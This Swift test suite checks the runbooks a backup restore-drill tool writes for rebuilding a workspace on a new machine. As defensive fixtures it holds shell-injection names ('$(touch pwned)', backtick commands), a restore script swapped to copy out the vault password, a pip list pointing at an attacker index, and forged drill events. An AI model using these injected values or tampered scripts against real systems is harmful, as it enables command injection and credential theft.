import DrillCore
import Foundation
import TestSupport
import Testing
import Vault

/// Issue 19: `restore-drill runbook` and the runbook the schedule keeps, followed literally on a
/// fake new machine.
@Suite(.serialized)
struct RunbookTests {
    /// The ```sh blocks of a Markdown runbook, their lines in order.
    static func commands(_ markdown: String) -> [String] {
        var out: [String] = []
        var inside = false
        for line in markdown.split(separator: "\n", omittingEmptySubsequences: false) {
            if line == "```sh" {
                inside = true
            } else if line == "```" {
                inside = false
            } else if inside {
                out.append(String(line))
            }
        }
        return out
    }

    /// The ```sh blocks of a Markdown runbook, each its lines in order.
    static func blocks(_ markdown: String) -> [[String]] {
        var out: [[String]] = []
        var current: [String]?
        for line in markdown.split(separator: "\n", omittingEmptySubsequences: false) {
            if line == "```sh" {
                current = []
            } else if line == "```", let block = current {
                out.append(block)
                current = nil
            } else if current != nil {
                current?.append(String(line))
            }
        }
        return out
    }

    /// A fake new machine: `<scratch>/home` (empty), `<scratch>/work` (where the runbook is run),
    /// `<scratch>/stubs` with `brew`, `launchctl` and `pip3` stand-ins that append each argument on
    /// its own line, then `--`, to `<scratch>/<name>.log`.
    struct NewMachine {
        let base: String
        var home: String { base + "/home" }
        var work: String { base + "/work" }
        var stubs: String { base + "/stubs" }

        init() throws {
            base = try Tool.scratch("new-machine")
            for folder in [base, home, work, stubs] {
                try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
                chmod(folder, 0o755)
            }
            for name in ["brew", "launchctl", "pip3"] {
                let stub =
                    "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\"; done >> '\(base)/\(name).log'\n"
                    + "printf -- '--\\n' >> '\(base)/\(name).log'\n"
                try Data(stub.utf8).write(to: URL(fileURLWithPath: "\(stubs)/\(name)"))
                chmod("\(stubs)/\(name)", 0o755)
            }
        }

        /// What the stand-in `name` recorded: one array of arguments per call.
        func calls(_ name: String) -> [[String]] {
            guard let text = try? String(contentsOfFile: "\(base)/\(name).log", encoding: .utf8) else { return [] }
            var out: [[String]] = []
            var current: [String] = []
            for line in text.split(separator: "\n", omittingEmptySubsequences: false).dropLast() {
                if line == "--" {
                    out.append(current)
                    current = []
                } else {
                    current.append(String(line))
                }
            }
            return out
        }

        /// Runs `lines` as one sh script in ``work`` with HOME the new home and the stand-ins and
        /// the built tool first on PATH.
        func run(_ lines: [String], exitOnError: Bool, environment: [String: String] = [:]) throws -> ToolRun {
            let script = base + "/runbook.sh"
            try Data(lines.map { $0 + "\n" }.joined().utf8).write(to: URL(fileURLWithPath: script))
            var env = [
                "HOME": home,
                "PATH": "\(stubs):\((try Tool.binary as NSString).deletingLastPathComponent):/usr/bin:/bin",
            ]
            for (k, v) in environment { env[k] = v }
            return try runTool("/bin/sh", (exitOnError ? ["-e"] : []) + [script], environment: env, directory: work)
        }
    }

    /// A format-2 workspace with a database, a LaunchAgent, a vault (password from the variable
    /// RD_RUNBOOK_PW) and two formulas in the homebrew list.
    static func workspace(
        _ name: String, format: Int = 2, databases: [String] = ["data/app.db"], agent: String = "com.maia.runbook"
    )
        throws -> SmallWorkspace
    {
        let ws = try SmallWorkspace.make(name, format: format)
        var config = try String(contentsOfFile: ws.config, encoding: .utf8)
        config = config.replacingOccurrences(of: "launchagents: {include: []}\n", with: "")
        config = config.replacingOccurrences(
            of: "dependencies: {python: [/bin/echo, \"requests==2.31.0\"], homebrew: [/bin/echo, \"git 2.42.0\"]}\n",
            with: "")
        config += """
            launchagents: {include: ["~/Library/LaunchAgents/*.plist"]}
            dependencies:
              python: [/bin/echo, "requests==2.31.0"]
              homebrew: [/usr/bin/printf, '%s\\n', 'git 2.42.0', 'sqlite 3.45.1', "it's`touch pwned` 1", '$(touch pwned) 2', 'evil/tap/pwn 1']
            credentials:
              include: [secret.txt]
              password: {env: RD_RUNBOOK_PW}

            """
        try Data(config.utf8).write(to: URL(fileURLWithPath: ws.config))
        try ws.write("notes.txt", "hello\n")
        try ws.write("secret.txt", "token=42\n")
        let sqlite = try requireTool("sqlite3", package: "sqlite3")
        for db in databases {
            let path = ws.root + "/" + db
            try FileManager.default.createDirectory(
                atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            let made = try runTool(sqlite, [path, "CREATE TABLE t(x); INSERT INTO t VALUES (1), (2);"])
            #expect(made.status == 0, "\(made.error)")
        }
        let agents = ws.home + "/Library/LaunchAgents"
        try FileManager.default.createDirectory(atPath: agents, withIntermediateDirectories: true)
        let plist: [String: Any] = ["Label": agent, "ProgramArguments": ["/bin/sh", "-c", "true"]]
        try PropertyListSerialization.data(fromPropertyList: plist, format: .xml, options: 0).write(
            to: URL(fileURLWithPath: "\(agents)/\(agent).plist"))
        return ws
    }

    static let password = ["RD_RUNBOOK_PW": "correct horse battery staple"]

    @Test(.needsTool("sqlite3", package: "sqlite3"))
    func followedLiterallyOnANewMachineRestoresAndDrillsPass() throws {
        let ws = try Self.workspace("runbook-literal")
        defer { ws.remove() }
        let backup = try ws.run(["backup"], environment: Self.password)
        try #require(backup.status == 0, "\(backup.stdout)\(backup.stderr)")
        let drill = try ws.run(["drill", "--json"], environment: Self.password)
        try #require(drill.status == 0, "\(drill.stderr)")
        let drillID = try Tool.drillReport(drill.stdout).drillID.description

        // The schedule's copy: written after the full drill, 0600, naming that drill.
        let kept = ws.base + "/reports/RUNBOOK.md"
        let keptText = try String(contentsOfFile: kept, encoding: .utf8)
        #expect(keptText.contains(drillID))
        #expect((try FileManager.default.attributesOfItem(atPath: kept)[.posixPermissions] as? Int) == 0o600)

        // A copy of the destination stands for the synced folder on the new machine.
        let copy = ws.base + "/synced-copy"
        try FileManager.default.copyItem(atPath: ws.base + "/backups", toPath: copy)
        var config = try String(contentsOfFile: ws.config, encoding: .utf8)
        config = config.replacingOccurrences(of: "destination: backups", with: "destination: synced-copy")
        let copyConfig = ws.base + "/copy.yml"
        try Data(config.utf8).write(to: URL(fileURLWithPath: copyConfig))
        let made = try Tool.run(["runbook", "--config", copyConfig], in: ws.base, environment: Self.password)
        try #require(made.status == 0, "\(made.stderr)")
        let markdown = made.stdout
        #expect(markdown.hasPrefix("# Runbook: restore full_"), "\(markdown.prefix(200))")
        #expect(markdown.contains(drillID))
        #expect(markdown.contains("measured RTO"))
        #expect(!markdown.contains("WARNING"))
        #expect(!markdown.contains(Self.password["RD_RUNBOOK_PW"]!))

        let machine = try NewMachine()
        defer { try? FileManager.default.removeItem(atPath: machine.base) }
        // A new machine's home is never empty.
        for folder in ["Library/Preferences", "Desktop"] {
            try FileManager.default.createDirectory(
                atPath: machine.home + "/" + folder, withIntermediateDirectories: true)
        }
        try Data("mine\n".utf8).write(to: URL(fileURLWithPath: machine.home + "/Desktop/todo.txt"))
        let lines = Self.commands(markdown)
        let run = try machine.run(lines, exitOnError: true, environment: Self.password)
        #expect(run.status == 0, "\(run.output)\n\(run.error)\n\(markdown)")
        #expect(run.output.contains("ok: "), "integrity_check prints ok: \(run.output)")
        #expect(!run.output.contains("DAMAGED"), "\(run.output)")
        #expect(run.output.contains("manifest.json: OK"), "the copy is checked: \(run.output)")
        #expect(
            (try? String(contentsOfFile: machine.home + "/Desktop/todo.txt", encoding: .utf8)) == "mine\n",
            "what the set does not hold is left alone")
        #expect(
            (try? String(contentsOfFile: machine.home + "/git/maia/notes.txt", encoding: .utf8)) == "hello\n")
        #expect(machine.calls("brew") == [["install", "git"], ["install", "sqlite"]])
        #expect(
            machine.calls("launchctl") == [
                ["bootstrap", "gui/\(getuid())", machine.home + "/Library/LaunchAgents/com.maia.runbook.plist"]
            ])
        let pip = machine.calls("pip3")
        #expect(pip.count == 1 && pip.first?.prefix(2) == ["install", "-r"])
        #expect(!FileManager.default.fileExists(atPath: machine.work + "/pwned"))

        // Someone who can write to the synced folder replaces the script after the runbook was
        // made: step 2 stops before the password is written or the script runs.
        let set = try #require(
            try FileManager.default.contentsOfDirectory(atPath: copy).first { $0.hasPrefix("full_") })
        let second = try NewMachine()
        defer { try? FileManager.default.removeItem(atPath: second.base) }
        let script = try #require(
            try FileManager.default.contentsOfDirectory(atPath: "\(copy)/\(set)").first { $0.hasSuffix(".sh") })
        try Data("#!/bin/sh\ncat ./vault-password > '\(second.base)/STOLEN'\n".utf8).write(
            to: URL(fileURLWithPath: "\(copy)/\(set)/\(script)"))
        let stopped = try second.run(lines, exitOnError: true, environment: Self.password)
        #expect(stopped.status != 0)
        #expect(stopped.output.contains("\(script): FAILED"), "\(stopped.output)\n\(stopped.error)")
        #expect(!FileManager.default.fileExists(atPath: second.base + "/STOLEN"))
        #expect(!FileManager.default.fileExists(atPath: second.work + "/vault-password"))
    }

    /// The runbook pins what vouches for each file, never the file alone: a script replaced in the
    /// destination with its SHA256SUMS line edited (the manifest untouched, so the set still
    /// authenticates) gets a warning at the top, no restore command, and a step 2 that stops; a
    /// script that is a symbolic link reaches the copy as a regular file (cp -RL).
    @Test(.needsTool("sqlite3", package: "sqlite3"))
    func aScriptReplacedBeforeTheRunbookIsMadeIsNeverPinned() throws {
        let ws = try Self.workspace("runbook-pin", format: 1)
        defer { ws.remove() }
        try #require(try ws.run(["backup"], environment: Self.password).status == 0)
        try #require(try ws.run(["drill"], environment: Self.password).status == 0)
        let set = try #require(
            try FileManager.default.contentsOfDirectory(atPath: ws.base + "/backups").first { $0.hasPrefix("full_") })
        let folder = ws.base + "/backups/" + set
        let script = try #require(
            try FileManager.default.contentsOfDirectory(atPath: folder).first { $0.hasSuffix(".sh") })
        let genuine = try Data(contentsOf: URL(fileURLWithPath: "\(folder)/\(script)"))

        // The runbook is made; then the destination's script becomes a link to the genuine bytes:
        // followed literally, the copy holds a regular file (cp -RL) and the restore works.
        let honest = try ws.run(["runbook"], environment: Self.password)
        try #require(honest.status == 0, "\(honest.stderr)")
        try FileManager.default.createDirectory(atPath: ws.base + "/elsewhere", withIntermediateDirectories: true)
        try genuine.write(to: URL(fileURLWithPath: ws.base + "/elsewhere/r.sh"))
        try FileManager.default.removeItem(atPath: "\(folder)/\(script)")
        try FileManager.default.createSymbolicLink(
            atPath: "\(folder)/\(script)", withDestinationPath: ws.base + "/elsewhere/r.sh")
        let machine = try NewMachine()
        defer { try? FileManager.default.removeItem(atPath: machine.base) }
        let run = try machine.run(Self.commands(honest.stdout), exitOnError: true, environment: Self.password)
        #expect(run.status == 0, "\(run.output)\n\(run.error)")
        var info = stat()
        #expect(lstat("\(machine.work)/restore-set/\(set)/\(script)", &info) == 0)
        #expect((info.st_mode & S_IFMT) == S_IFREG, "the copy's script is a regular file")
        // A runbook made while the script is a link pins nothing.
        let linked = try ws.run(["runbook"], environment: Self.password)
        #expect(
            linked.stdout.hasPrefix(
                "# WARNING: do not restore from this copy: its restore script \(script) is not a regular file"),
            "\(linked.stdout.prefix(300))")

        // Replaced, with its SHA256SUMS line edited to match.
        try FileManager.default.removeItem(atPath: "\(folder)/\(script)")
        let evil = "#!/bin/sh\ncat ./vault-password > '\(ws.base)/STOLEN'\n"
        try Data(evil.utf8).write(to: URL(fileURLWithPath: "\(folder)/\(script)"))
        var sums = try String(contentsOfFile: "\(folder)/SHA256SUMS", encoding: .utf8)
        sums = sums.replacingOccurrences(
            of: SHA256Digest.hex(of: genuine), with: SHA256Digest.hex(of: Data(evil.utf8)))
        try Data(sums.utf8).write(to: URL(fileURLWithPath: "\(folder)/SHA256SUMS"))
        let made = try ws.run(["runbook"], environment: Self.password)
        try #require(made.status == 0, "\(made.stderr)")
        let first = made.stdout.split(separator: "\n").first.map(String.init) ?? ""
        #expect(first.hasPrefix("# WARNING: do not restore from this copy: "), "\(made.stdout.prefix(400))")
        #expect(!made.stdout.contains("--password-file ./vault-password --yes"))
        let second = try NewMachine()
        defer { try? FileManager.default.removeItem(atPath: second.base) }
        let stopped = try second.run(Self.commands(made.stdout), exitOnError: true, environment: Self.password)
        #expect(stopped.status != 0)
        #expect(
            stopped.error.contains("this copy cannot be checked against its manifest: stop here"), "\(stopped.error)")
        #expect(!FileManager.default.fileExists(atPath: ws.base + "/STOLEN"))
    }

    /// The history in the destination is anyone's to write: an event dropped there that claims a
    /// passing drill (dated in the future, so it would also hide later failures) makes no set look
    /// proven to the runbook, and `compat` leaves it out of the matrix.
    @Test(.needsTool("sqlite3", package: "sqlite3"))
    func aForgedPassingEventInTheHistoryProvesNothing() throws {
        let ws = try Self.workspace("runbook-forged", format: 1)
        defer { ws.remove() }
        try #require(try ws.run(["backup"], environment: Self.password).status == 0)
        let drill = try ws.run(["drill", "--json"], environment: Self.password)
        try #require(drill.status == 0, "\(drill.stderr)")
        let first = try Tool.drillReport(drill.stdout)
        let proven = try #require(first.backupID?.description)
        Thread.sleep(forTimeInterval: 1.1)
        try ws.write("notes.txt", "changed\n")
        try #require(try ws.run(["backup"], environment: Self.password).status == 0)
        let sets = try FileManager.default.contentsOfDirectory(atPath: ws.base + "/backups").filter {
            $0.hasPrefix("full_")
        }.sorted()
        let newest = try #require(sets.last)
        try #require(newest != proven)

        let events = ws.base + "/backups/.restore-drill/events"
        let real = try #require(
            try FileManager.default.contentsOfDirectory(atPath: events).first { $0.contains("-drill-") })
        var forged = try String(contentsOfFile: "\(events)/\(real)", encoding: .utf8)
        forged = forged.replacingOccurrences(of: proven, with: newest)
        forged = forged.replacingOccurrences(of: first.drillID.description, with: "drill_20991231_000000")
        forged = forged.replacingOccurrences(
            of: #""time" : "[^"]*""#, with: #""time" : "2099-12-31T00:00:01.000Z""#, options: .regularExpression)
        forged = forged.replacingOccurrences(
            of: #""id" : "[^"]*""#, with: #""id" : "20991231T000001.000Z-drill-0badc0de""#, options: .regularExpression)
        // Unchained, as a file dropped into a synced folder is.
        forged = forged.replacingOccurrences(of: #"\n *"(seq|prev)" : [^\n]*"#, with: "", options: .regularExpression)
        try Data(forged.utf8).write(
            to: URL(fileURLWithPath: "\(events)/20991231T000001.000Z-drill-0badc0de.json"))

        let made = try ws.run(["runbook"], environment: Self.password)
        try #require(made.status == 0, "\(made.stderr)")
        let top = made.stdout.split(separator: "\n").first.map(String.init) ?? ""
        #expect(
            top == "# WARNING: this set has never passed a drill (the newest set that passed one is \(proven): "
                + "restore-drill runbook \(proven))", "\(made.stdout.prefix(400))")
        #expect(!made.stdout.contains("drill_20991231_000000"))

        let compat = try ws.run(["compat", "--json"], environment: Self.password)
        try #require(compat.status == 0, "\(compat.stderr)")
        let matrix = try JSONSerialization.jsonObject(with: Data(compat.stdout.utf8)) as? [String: Any]
        #expect(matrix?["unvouched"] as? Int == 1, "\(compat.stdout)")
        let combinations = matrix?["combinations"] as? [[String: Any]] ?? []
        #expect(combinations.count == 1 && combinations.first?["drills"] as? Int == 1, "\(compat.stdout)")
        let text = try ws.run(["compat"], environment: Self.password)
        #expect(text.stdout.contains("1 drill event in the history not shown"), "\(text.stdout)")
        // Health does not count it either: it is dated in the future and no report vouches for it.
        let health = try ws.run(["health", "--json"], environment: Self.password)
        let report = try JSONSerialization.jsonObject(with: Data(health.stdout.utf8)) as? [String: Any]
        let findings = report?["findings"] as? [[String: Any]] ?? []
        #expect(
            findings.contains {
                $0["code"] as? String == "drill_ignored"
                    && ($0["message"] as? String)?.contains("20991231T000001.000Z-drill-0badc0de") == true
            }, "\(health.stdout)")
        let metrics = report?["metrics"] as? [String: Any]
        #expect(
            (metrics?["last_drill_timestamp_seconds"] as? Double).map { $0 < 4_000_000_000 } == true,
            "the last drill is the real one: \(health.stdout)")
        // The SLA scorecard (audit evidence) counts only drills this machine can believe: a pass
        // dropped in a minute after the real drill, of a drill it has no report of, is not one.
        let realTime = try #require(Timestamp.date(first.finishedAt))
        let dropped = DrillID(date: realTime.addingTimeInterval(60))
        var copy = try String(contentsOfFile: "\(events)/\(real)", encoding: .utf8)
        copy = copy.replacingOccurrences(of: first.drillID.description, with: dropped.description)
        copy = copy.replacingOccurrences(
            of: #""time" : "[^"]*""#, with: "\"time\" : \"\(Timestamp.string(realTime.addingTimeInterval(61)))\"",
            options: .regularExpression)
        copy = copy.replacingOccurrences(
            of: #""id" : "[^"]*""#, with: #""id" : "20991231T000002.000Z-drill-0badc0df""#, options: .regularExpression)
        try Data(copy.utf8).write(to: URL(fileURLWithPath: "\(events)/20991231T000002.000Z-drill-0badc0df.json"))
        let tomorrow = ["RESTORE_DRILL_NOW": Timestamp.string(realTime.addingTimeInterval(86400))]
        let sla = try ws.run(["report", "sla", "--json"], environment: Self.password.merging(tomorrow) { $1 })
        try #require(sla.status == 0, "\(sla.stderr)")
        let scorecard = try JSONSerialization.jsonObject(with: Data(sla.stdout.utf8)) as? [String: Any]
        let validation = scorecard?["restore_validation"] as? [String: Any]
        #expect(validation?["denominator"] as? Int == 1, "\(validation ?? [:])")
        try FileManager.default.removeItem(atPath: "\(events)/20991231T000002.000Z-drill-0badc0df.json")

        // A damaged event file is named as a warning: the matrix may miss a drill.
        try Data("garbage{\n".utf8).write(
            to: URL(fileURLWithPath: "\(events)/20261207T000000.000Z-drill-00000000.json"))
        let damaged = try ws.run(["compat"], environment: Self.password)
        #expect(damaged.status == 0)
        #expect(damaged.stderr.contains("1 event file(s) in the history could not be used"), "\(damaged.stderr)")

        // The runbook the schedule keeps after a drill leads to a set that restores: the newest
        // has no passing drill, so it is the proven one's, with a warning naming the newer set.
        try #require(try ws.run(["drill", proven], environment: Self.password).status == 0)
        let kept = try String(contentsOfFile: ws.base + "/reports/RUNBOOK.md", encoding: .utf8)
        #expect(
            kept.hasPrefix(
                "# WARNING: the newest set \(newest) has no passing drill: this runbook restores the newest set that "
                    + "passed one\n"), "\(kept.prefix(400))")
        #expect(kept.contains("# Runbook: restore \(proven) on a new machine"))
    }

    /// A password written into the configuration as a command's argument never reaches the
    /// runbook; a dependency list that no longer matches the manifest is not installed; OUT never
    /// replaces a person's file, `-` is stdout, `.html` picks HTML, and a lone name that is no
    /// backup id is refused with a hint.
    @Test(.needsTool("sqlite3", package: "sqlite3"))
    func secretsListsAndOutputFiles() throws {
        let ws = try Self.workspace("runbook-out")
        defer { ws.remove() }
        let secret = Self.password["RD_RUNBOOK_PW"]!
        var config = try String(contentsOfFile: ws.config, encoding: .utf8)
        config = config.replacingOccurrences(
            of: "password: {env: RD_RUNBOOK_PW}", with: "password: {command: [/usr/bin/printf, '%s', '\(secret)']}")
        try Data(config.utf8).write(to: URL(fileURLWithPath: ws.config))
        try #require(try ws.run(["backup"]).status == 0)
        let before = try ws.run(["runbook", "-"])
        try #require(before.status == 0, "\(before.stderr)")
        #expect(!before.stdout.contains(secret))
        #expect(before.stdout.contains(SecretScrubber.redaction), "\(before.stdout)")
        let pip = try #require(
            before.stdout.split(separator: "\n").first { $0.hasPrefix("pip3 install -r ") }.map(String.init))
        // The python list's object is replaced in the destination.
        let object = try #require(pip.split(separator: "'").dropFirst().first.map(String.init))
        let stored = ws.base + "/backups/" + object.replacingOccurrences(of: "./restore-set/", with: "")
        try Data("--extra-index-url http://attacker.invalid/simple\nevil==1.0\n".utf8).write(
            to: URL(fileURLWithPath: stored))
        let after = try ws.run(["runbook"])
        try #require(after.status == 0, "\(after.stderr)")
        #expect(!after.stdout.contains("pip3 install"), "\(after.stdout)")
        #expect(after.stdout.contains("# the python list could not be read or does not match the manifest"))

        let mine = ws.base + "/mine.md"
        try Data("NOTES\n".utf8).write(to: URL(fileURLWithPath: mine))
        let refused = try ws.run(["runbook", mine])
        #expect(refused.status == 2, "\(refused.stderr)")
        #expect(refused.stderr.contains("is not a runbook restore-drill wrote"), "\(refused.stderr)")
        #expect((try String(contentsOfFile: mine, encoding: .utf8)) == "NOTES\n")
        let own = ws.base + "/out.md"
        #expect(try ws.run(["runbook", own]).status == 0)
        let replaced = try ws.run(["runbook", own])
        #expect(replaced.status == 0, "a runbook this tool wrote is replaced: \(replaced.stderr)")
        let page = ws.base + "/page.html"
        #expect(try ws.run(["runbook", page]).status == 0)
        #expect((try String(contentsOfFile: page, encoding: .utf8)).hasPrefix("<!DOCTYPE html>"))
        let notAnID = try ws.run(["runbook", "full_2026120"])
        #expect(notAnID.status == 2)
        #expect(notAnID.stderr.contains("give ./full_2026120"), "\(notAnID.stderr)")
        let noFolder = try ws.run(["runbook", ws.base + "/nope/rb.md"])
        #expect(noFolder.status == 3)
        #expect(noFolder.stderr.contains("its folder \(ws.base)/nope does not exist"), "\(noFolder.stderr)")
    }

    /// A set no vault password authenticates says so at the top of its runbook.
    @Test func anUnauthenticatedSetIsWarnedAbout() throws {
        let ws = try SmallWorkspace.make("runbook-plain")
        defer { ws.remove() }
        try ws.write("notes.txt", "hello\n")
        try #require(try ws.run(["backup"]).status == 0)
        let made = try ws.run(["runbook"])
        try #require(made.status == 0, "\(made.stderr)")
        let headings = made.stdout.split(separator: "\n").filter { $0.hasPrefix("# WARNING") }
        #expect(
            headings == [
                "# WARNING: this set has never passed a drill",
                "# WARNING: this set is not authenticated: no vault password was available to check its manifest, "
                    + "so anyone who can write to the destination could have replaced it",
            ], "\(made.stdout.prefix(600))")
    }

    /// The runbook the schedule keeps is never made without the configured password: when the
    /// password command fails after the drill, no RUNBOOK.md is written (a runbook made then
    /// could name a set nobody authenticated).
    @Test(.needsTool("sqlite3", package: "sqlite3"))
    func noRunbookIsKeptWhenThePasswordCannotBeHad() throws {
        let ws = try Self.workspace("runbook-closed", format: 1)
        defer { ws.remove() }
        let counter = ws.base + "/calls"
        let command = ws.base + "/password.sh"
        try Data(
            """
            #!/bin/sh
            n=$(cat '\(counter)' 2>/dev/null || echo 0); n=$((n + 1)); echo "$n" > '\(counter)'
            [ "$n" -le "${RD_CALLS_ALLOWED:-99}" ] || exit 1
            printf '%s' 'correct horse battery staple'

            """.utf8
        ).write(to: URL(fileURLWithPath: command))
        chmod(command, 0o755)
        var config = try String(contentsOfFile: ws.config, encoding: .utf8)
        config = config.replacingOccurrences(
            of: "password: {env: RD_RUNBOOK_PW}", with: "password: {command: [\(command)]}")
        try Data(config.utf8).write(to: URL(fileURLWithPath: ws.config))
        try #require(try ws.run(["backup"]).status == 0)
        try? FileManager.default.removeItem(atPath: counter)
        let drill = try ws.run(["drill"], environment: ["RD_CALLS_ALLOWED": "1"])
        #expect(drill.status == 0, "\(drill.stderr)")
        #expect(drill.stderr.contains("runbook not written: the vault password could not be had"), "\(drill.stderr)")
        #expect(!FileManager.default.fileExists(atPath: ws.base + "/reports/RUNBOOK.md"))
        let again = try ws.run(["drill"])
        #expect(again.status == 0, "\(again.stderr)")
        #expect(FileManager.default.fileExists(atPath: ws.base + "/reports/RUNBOOK.md"))
    }

    /// The schedule's runbook is also kept beside the sets on each off-site remote, and its rclone
    /// block, followed literally with the local destination gone, fetches a set that restores and
    /// drills PASS. The remote is an rclone `alias` remote over a local folder, as a person's
    /// `RCLONE_CONFIG` would name a cloud one.
    @Test(.needsTool("sqlite3", package: "sqlite3"), .needsTool("rclone", package: "rclone"))
    func keptBesideTheSetsOnEachRemoteWhoseRcloneStepsFetchARestorableSet() throws {
        let ws = try Self.workspace("runbook-remote")
        defer { ws.remove() }
        let rcloneConfig = ws.base + "/rclone.conf"
        try Data("[here]\ntype = alias\nremote = \(ws.base)/remote\n".utf8).write(
            to: URL(fileURLWithPath: rcloneConfig))
        chmod(rcloneConfig, 0o600)
        var config = try String(contentsOfFile: ws.config, encoding: .utf8)
        config += "offsite:\n  - {name: copy1, rclone: \"here:sets\", encrypted: false}\n"
        try Data(config.utf8).write(to: URL(fileURLWithPath: ws.config))
        var env = Self.password
        env["RCLONE_CONFIG"] = rcloneConfig
        let backup = try ws.run(["backup"], environment: env)
        try #require(backup.status == 0, "\(backup.stdout)\(backup.stderr)")
        let push = try ws.run(["offsite", "push"], environment: env)
        try #require(push.status == 0, "\(push.stdout)\(push.stderr)")
        let drill = try ws.run(["drill", "--json"], environment: env)
        try #require(drill.status == 0, "\(drill.stderr)")
        #expect(!drill.stderr.contains("runbook not"), "\(drill.stderr)")
        let drillID = try Tool.drillReport(drill.stdout).drillID.description

        let kept = try String(contentsOfFile: ws.base + "/reports/RUNBOOK.md", encoding: .utf8)
        let remote = try String(contentsOfFile: ws.base + "/remote/sets/RUNBOOK.md", encoding: .utf8)
        #expect(remote == kept)
        #expect(remote.contains(drillID))
        #expect(remote.contains("rclone copy 'here:sets/full_"), "\(remote)")
        // The remote's check counts the runbook as the tool's own file, not a stray.
        let check = try ws.run(["offsite", "check", "--all"], environment: env)
        #expect(check.status == 0, "\(check.stdout)\(check.stderr)")
        #expect(!check.stdout.contains("RUNBOOK"), "\(check.stdout)")

        // The machine is gone: only the remote is left. Every block but the local copy's.
        try FileManager.default.moveItem(atPath: ws.base + "/backups", toPath: ws.base + "/backups-gone")
        let blocks = Self.blocks(remote)
        let local = blocks.filter { $0.contains { $0.hasPrefix("cp -RL ") } }
        #expect(local.count == 1, "\(blocks)")
        let lines = blocks.filter { block in !block.contains { $0.hasPrefix("cp -RL ") } }.flatMap { $0 }
        let machine = try NewMachine()
        defer { try? FileManager.default.removeItem(atPath: machine.base) }
        let run = try machine.run(lines, exitOnError: true, environment: env)
        #expect(run.status == 0, "\(run.output)\n\(run.error)\n\(remote)")
        #expect(run.output.contains("PASS"), "the fetched copy drills PASS: \(run.output)")
        #expect(
            (try? String(contentsOfFile: machine.home + "/git/maia/notes.txt", encoding: .utf8)) == "hello\n")
        #expect(
            (try? String(contentsOfFile: machine.home + "/git/maia/secret.txt", encoding: .utf8)) == "token=42\n")
    }

    @Test(.needsTool("sqlite3", package: "sqlite3"))
    func warnsFirstWhenNeverDrilledOrLastDrillFailed() throws {
        let ws = try Self.workspace("runbook-warn", format: 1)
        defer { ws.remove() }
        let backup = try ws.run(["backup"], environment: Self.password)
        try #require(backup.status == 0, "\(backup.stderr)")
        let never = try ws.run(["runbook"], environment: Self.password)
        try #require(never.status == 0, "\(never.stderr)")
        #expect(never.stdout.hasPrefix("# WARNING: this set has never passed a drill\n"), "\(never.stdout.prefix(300))")

        let pass = try ws.run(["drill", "--json"], environment: Self.password)
        try #require(pass.status == 0, "\(pass.stderr)")
        let passID = try Tool.drillReport(pass.stdout).drillID.description
        let set = try #require(
            try FileManager.default.contentsOfDirectory(atPath: ws.base + "/backups").first { $0.hasPrefix("full_") })
        try SetSurgery.flipByte(ws.base + "/backups/\(set)/code.tar.gz")
        let fail = try ws.run(["drill"], environment: Self.password)
        #expect(fail.status == 1, "\(fail.stderr)")

        let failed = try ws.run(["runbook", set], environment: Self.password)
        try #require(failed.status == 0, "\(failed.stderr)")
        let first = failed.stdout.split(separator: "\n").first.map(String.init) ?? ""
        #expect(first.hasPrefix("# WARNING: this set's last drill FAILED on "), "\(first)")
        #expect(first.contains("set.artifacts"), "\(first)")
        #expect(failed.stdout.contains(passID), "the passing drill is still named")

        let out = ws.base + "/runbook.html"
        let html = try ws.run(["runbook", set, "--format", "html", out], environment: Self.password)
        try #require(html.status == 0, "\(html.stderr)")
        let page = try String(contentsOfFile: out, encoding: .utf8)
        #expect(
            page.contains("<h1 class=\"warning\">WARNING: this set&#39;s last drill FAILED on "), "\(page.prefix(900))")
        #expect(!page.contains("<script"))
        #expect((try FileManager.default.attributesOfItem(atPath: out)[.posixPermissions] as? Int) == 0o600)
    }

    @Test(.needsTool("sqlite3", package: "sqlite3"))
    func hostileNamesStayInsideTheirQuotes() throws {
        let hostile = "it's '$(touch pwned)' `touch pwned`"
        let ws = try Self.workspace(
            "runbook-hostile", databases: ["data/\(hostile).db"], agent: "com.maia.x'$(touch pwned)'")
        defer { ws.remove() }
        let backup = try ws.run(["backup", "--no-push"], environment: Self.password)
        try #require(backup.status == 0, "\(backup.stdout)\(backup.stderr)")
        let made = try ws.run(["runbook"], environment: Self.password)
        try #require(made.status == 0, "\(made.stderr)")
        let machine = try NewMachine()
        defer { try? FileManager.default.removeItem(atPath: machine.base) }
        _ = try machine.run(Self.commands(made.stdout), exitOnError: false, environment: Self.password)
        let found = FileManager.default.enumerator(atPath: machine.base)?.compactMap { $0 as? String } ?? []
        #expect(!found.contains { ($0 as NSString).lastPathComponent == "pwned" }, "\(found)")
        #expect(!FileManager.default.fileExists(atPath: ws.base + "/pwned"))
        #expect(
            machine.calls("launchctl").last?.last
                == machine.home + "/Library/LaunchAgents/com.maia.x'$(touch pwned)'.plist")
        #expect(machine.calls("brew") == [["install", "git"], ["install", "sqlite"]])
        #expect(made.stdout.contains("# not a formula name, not installed: it's`touch pwned` 1"))
        #expect(made.stdout.contains("# not a formula name, not installed: evil/tap/pwn 1"))
    }
}
